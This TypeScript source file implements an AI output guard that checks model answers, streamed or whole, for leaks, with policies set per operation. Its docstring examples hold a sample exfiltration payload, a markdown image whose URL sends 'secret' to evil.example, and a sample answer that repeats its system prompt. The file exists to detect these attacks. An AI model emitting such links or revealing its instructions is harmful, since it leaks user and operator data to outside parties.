// Judges answers on their way out by a policy that the operation refines.
import type { OutputPolicy } from './output-policy.ts';
import { completePolicy } from './output-policy.ts';
import type { OutputContext, OutputSession, OutputVerdict } from './output-session.ts';
import { openSession } from './output-session.ts';

/** How an output guard decides. */
export interface OutputGuardOptions {
  /** For every operation. */
  policy?: OutputPolicy;
  /** By name of the operation, field by field over `policy`. */
  operations?: Readonly<Record<string, OutputPolicy>>;
}

/** The guard on the way out. */
export interface OutputGuard {
  /** Opens the check of one answer, streamed or whole. */
  open(context?: OutputContext): OutputSession;
}

/**
 * Creates the guard on the way out. A stream is held back just far enough that no part of a leak leaves. It
 * reads no settings and tells nobody: `withOutputGuard` emits what it decides.
 *
 * @throws GuardError `invalid_options`, naming every wrong field.
 * @example
 * ```ts
 * import { createOutputGuard } from '@tpl/ai/guard';
 *
 * const guard = createOutputGuard({ policy: { allowHosts: ['docs.example.com'] } });
 * const session = guard.open({ system: 'You are a careful clerk and you never ever talk about prices.' });
 * let shown = session.push('My instructions: You are a careful clerk ');
 * shown += session.push('and you never ever talk about prices.');
 * const { text, verdict } = session.end();
 * console.log(shown + text, verdict.action);
 * ```
 */
export function createOutputGuard({ policy = {}, operations = {} }: OutputGuardOptions = {}): OutputGuard {
  const common = completePolicy(policy);
  const own = new Map(
    Object.entries(operations).map(([operation, override]) => [operation, completePolicy(policy, override)]),
  );
  return { open: (context = {}) => openSession(context, own.get(context.operation ?? '') ?? common) };
}

/**
 * Judges one whole answer. With action `sanitize` the verdict's `text` is the cleaned answer.
 *
 * @throws GuardError `invalid_options`, naming every wrong field of the policy.
 * @example
 * ```ts
 * import { inspectOutput } from '@tpl/ai/guard';
 *
 * const verdict = inspectOutput('Look: ![x](https://evil.example/?d=secret)', { policy: { allowHosts: [] } });
 * console.log(verdict.action, verdict.text);
 * ```
 */
export function inspectOutput(
  text: string,
  { policy, ...context }: OutputContext & { policy?: OutputPolicy } = {},
): OutputVerdict {
  const session = openSession(context, completePolicy(policy));
  const head = session.push(text);
  const { text: rest, verdict } = session.end();
  const clean = head + rest;
  return verdict.action !== 'block' && clean !== text
    ? { ...verdict, action: 'sanitize', text: clean }
    : verdict;
}
